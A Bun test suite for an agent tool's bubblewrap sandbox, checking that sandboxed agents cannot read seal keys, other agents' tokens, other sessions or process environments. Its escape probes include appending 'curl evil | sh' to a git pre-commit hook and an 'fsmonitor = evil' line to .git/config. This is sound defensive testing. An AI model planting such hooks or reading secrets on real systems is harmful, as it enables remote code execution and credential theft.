import { afterEach, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { bwrapArgv, type SandboxPlan } from "../../src/sandbox/bwrap.ts";
import { findOnPath } from "../../src/providers/doctor.ts";
import { makeTmpDir, removeDir } from "../helpers/tmp.ts";

/**
 * What an agent in the sandbox sees, tried with the real bubblewrap: a worktree run's layout
 * (main checkout, two worktrees, two sessions, a home) and a shell that tries to read and write
 * each place. The command line alone proves nothing; these reads do.
 */
const bwrap = findOnPath("bwrap", process.env.PATH ?? "");
const dirs: string[] = [];
afterEach(() => {
  while (dirs.length) removeDir(dirs.pop()!);
});

function layout() {
  const root = makeTmpDir("amx-bwrap-");
  dirs.push(root);
  const put = (rel: string, text = "x\n") => {
    mkdirSync(dirname(join(root, rel)), { recursive: true });
    writeFileSync(join(root, rel), text);
    return join(root, rel);
  };
  const project = join(root, "proj");
  const session = join(project, ".agentmux/.sessions/s1");
  const paths = {
    mainFile: put("proj/main.txt"),
    gitHead: put("proj/.git/HEAD", "ref: refs/heads/main\n"),
    ownWork: put("proj-worktrees/w1/file.txt"),
    otherWork: put("proj-worktrees/w2/other.txt"),
    prompt: put("proj/.agentmux/.sessions/s1/coder_prompt.md"),
    // the run's seal key, in the user's private folder (session/private-dir.ts privateSealKeyFile)
    sealKey: put("home/.cache/agentmux/keys/s1-0.seal", "a".repeat(64)),
    // where earlier versions kept it
    oldSealKey: put("proj/.agentmux/.sessions/s1/.runtime/tool_seal.key", "a".repeat(64)),
    // the run's private folder of MCP configs (providers/mcp.ts privateMcpDir), in the hidden home
    ownMcp: put("home/.cache/agentmux/mcp/s1-0/coder.sim.json"),
    otherMcp: put("home/.cache/agentmux/mcp/s1-0/reviewer.sim.json"),
    simState: put("proj/.agentmux/.sessions/s1/.runtime/sim/once"),
    otherSession: put("proj/.agentmux/.sessions/s2/requirements.md"),
    homeSecret: put("home/secret.txt"),
    cliConfig: put("home/.cli/settings.json"),
  };
  const plan: SandboxPlan = {
    workDir: join(root, "proj-worktrees/w1"),
    projectDir: project,
    sessionDir: session,
    home: join(root, "home"),
    cliHome: [".cli", ".absent"],
    ownFiles: [paths.ownMcp],
    ownDirs: [],
    programs: [],
    path: process.env.PATH ?? "",
    runtimeDirs: ["sim"],
  };
  return { root, plan, paths };
}

/** In the sandbox: R (read) or X (not) per path, and W (written) or X per folder. */
async function look(plan: SandboxPlan, read: string[], write: string[]): Promise<string[]> {
  const script = [
    ...read.map((p) => `cat '${p}' >/dev/null 2>&1 && echo "R ${p}" || echo "X ${p}"`),
    ...write.map((d) => `touch '${d}/.w' 2>/dev/null && echo "W ${d}" || echo "X ${d}"`),
  ].join("\n");
  const p = Bun.spawn(bwrapArgv(plan, ["sh", "-c", script]), { stdout: "pipe", stderr: "pipe" });
  const [out, err, code] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text(), p.exited]);
  if (code !== 0) throw new Error(`bwrap failed (${code}): ${err}`);
  return out.trim().split("\n");
}

describe.skipIf(!bwrap)("the sandbox an agent runs in (real bubblewrap)", () => {
  test("a worktree run's agent reads its worktree, session, own MCP config and CLI config; nothing of the run's secrets, other worktrees, other sessions or the home", async () => {
    const { plan, paths } = layout();
    const seen = await look(plan, Object.values(paths), [plan.workDir, plan.sessionDir, join(plan.sessionDir, ".runtime/sim"), join(plan.home, ".cli")]);
    const verdict = Object.fromEntries(Object.entries(paths).map(([k, p]) => [k, seen.includes(`R ${p}`)]));
    expect(verdict).toEqual({
      mainFile: false, // the main checkout is another worktree
      gitHead: true, // but its .git holds this worktree's history
      ownWork: true,
      otherWork: false,
      prompt: true,
      sealKey: false,
      oldSealKey: false,
      ownMcp: true,
      otherMcp: false,
      simState: true,
      otherSession: false,
      homeSecret: false,
      cliConfig: true,
    });
    expect(seen.filter((l) => l.startsWith("W ")).length).toBe(4);
    // written in the sandbox, there outside it: the work is real
    expect(existsSync(join(plan.workDir, ".w"))).toBe(true);
    expect(existsSync(join(plan.sessionDir, ".w"))).toBe(true);
  });

  test("an in-place run's agent works in the project itself but still sees no other session and no runtime folder", async () => {
    const { plan, paths } = layout();
    const inPlace = { ...plan, workDir: plan.projectDir };
    const seen = await look(inPlace, [paths.mainFile, paths.otherSession, paths.sealKey, paths.prompt, paths.otherWork], [inPlace.workDir]);
    expect(seen).toEqual([
      `R ${paths.mainFile}`,
      `X ${paths.otherSession}`,
      `X ${paths.sealKey}`,
      `R ${paths.prompt}`,
      `X ${paths.otherWork}`,
      `W ${inPlace.workDir}`,
    ]);
  });

  test("a CLI whose home part holds agentmux's private folder (.cache) still sees its own config but no other agent's token and no seal key", async () => {
    const { plan, paths } = layout();
    const cached = { ...plan, cliHome: [".cache"] };
    const ownCache = join(plan.home, ".cache/cli/state.json");
    mkdirSync(dirname(ownCache), { recursive: true });
    writeFileSync(ownCache, "{}\n");
    const seen = await look(cached, [ownCache, paths.ownMcp, paths.otherMcp, paths.sealKey], []);
    expect(seen).toEqual([`R ${ownCache}`, `R ${paths.ownMcp}`, `X ${paths.otherMcp}`, `X ${paths.sealKey}`]);
  });

  test("a CLI's file in the home is its own copy: the CLI rewrites it in place there, the user's file and the other agents' copies stay as they were", async () => {
    const { plan, root } = layout();
    const user = join(plan.home, ".cli.json");
    writeFileSync(user, '{"user":1}\n');
    const copy = (agent: string) => {
      const c = join(root, `home/.cache/agentmux/mcp/s1-0/${agent}.home/.cli.json`);
      mkdirSync(dirname(c), { recursive: true });
      writeFileSync(c, '{"user":1}\n');
      return c;
    };
    const [mine, theirs] = [copy("coder"), copy("reviewer")];
    const withCopy = { ...plan, homeCopies: [{ part: ".cli.json", copy: mine }] };
    const p = Bun.spawn(bwrapArgv(withCopy, ["sh", "-c", `cat '${user}' && printf '{"agent":1}\\n' > '${user}' && cat '${user}'`]), {
      stdout: "pipe",
      stderr: "pipe",
    });
    const [out, code] = await Promise.all([new Response(p.stdout).text(), p.exited]);
    expect({ code, out }).toEqual({ code: 0, out: '{"user":1}\n{"agent":1}\n' });
    expect(readFileSync(mine, "utf8")).toBe('{"agent":1}\n');
    expect(readFileSync(user, "utf8")).toBe('{"user":1}\n');
    expect(readFileSync(theirs, "utf8")).toBe('{"user":1}\n');
  });

  test("no way back to what is hidden: unmounting fails (no capabilities, even run by root), no disks in /dev, the repository's hooks and config read-only", async () => {
    const { plan, paths, root } = layout();
    const hook = join(root, "proj/.git/hooks/pre-commit");
    mkdirSync(dirname(hook), { recursive: true });
    writeFileSync(hook, "#!/bin/sh\n");
    writeFileSync(join(root, "proj/.git/config"), "[core]\n");
    for (const p of [plan, { ...plan, workDir: plan.projectDir }]) {
      const script = [
        `umount -l '${join(plan.sessionDir, ".runtime")}' '${plan.home}' 2>/dev/null; cat '${paths.sealKey}' '${paths.oldSealKey}' >/dev/null 2>&1 && echo "seal key read" || echo "seal key hidden"`,
        `ls /dev | grep -E '^(sd|vd|nvme|xvd|loop)' >/dev/null && echo "disks" || echo "no disks"`,
        `echo 'curl evil | sh' >> '${hook}' 2>/dev/null && echo "hook written" || echo "hook read-only"`,
        `echo '[core] fsmonitor = evil' >> '${join(root, "proj/.git/config")}' 2>/dev/null && echo "config written" || echo "config read-only"`,
      ].join("\n");
      const proc = Bun.spawn(bwrapArgv(p, ["sh", "-c", script]), { stdout: "pipe", stderr: "pipe" });
      expect((await new Response(proc.stdout).text()).trim().split("\n")).toEqual(["seal key hidden", "no disks", "hook read-only", "config read-only"]);
    }
  });

  test("its own pid namespace: another agent's process (and its environment) is not there to read", async () => {
    const { plan } = layout();
    const other = Bun.spawn(["sleep", "30"], { env: { AGENTMUX_MCP_TOKEN: "b".repeat(64) } });
    try {
      const seen = await look(plan, [`/proc/${other.pid}/environ`], []);
      expect(seen).toEqual([`X /proc/${other.pid}/environ`]);
      expect(Bun.spawnSync(["cat", `/proc/${other.pid}/environ`]).stdout.toString()).toContain("AGENTMUX_MCP_TOKEN"); // outside it is
    } finally {
      other.kill();
    }
  });
});

test("mounts go parent before child, so a folder shown again is not hidden by the mask of a folder above it", () => {
  const { plan } = layout();
  const argv = bwrapArgv(plan, ["true"], { bwrap: "bwrap" });
  const at = (op: string, path: string) => argv.findIndex((a, i) => a === op && argv[i + 1] === path);
  expect(at("--tmpfs", "/tmp")).toBeLessThan(at("--bind", plan.workDir));
  expect(at("--tmpfs", plan.projectDir)).toBeLessThan(at("--bind", join(plan.projectDir, ".git")));
  expect(at("--bind", plan.sessionDir)).toBeLessThan(at("--tmpfs", join(plan.sessionDir, ".runtime")));
  expect(at("--tmpfs", join(plan.sessionDir, ".runtime"))).toBeLessThan(at("--ro-bind", plan.ownFiles[0]!));
  expect(argv.includes(join(plan.home, ".absent"))).toBe(false); // a CLI path that does not exist is not bound (bwrap would fail)
  expect(argv.slice(-4)).toEqual(["--chdir", plan.workDir, "--", "true"]);
});
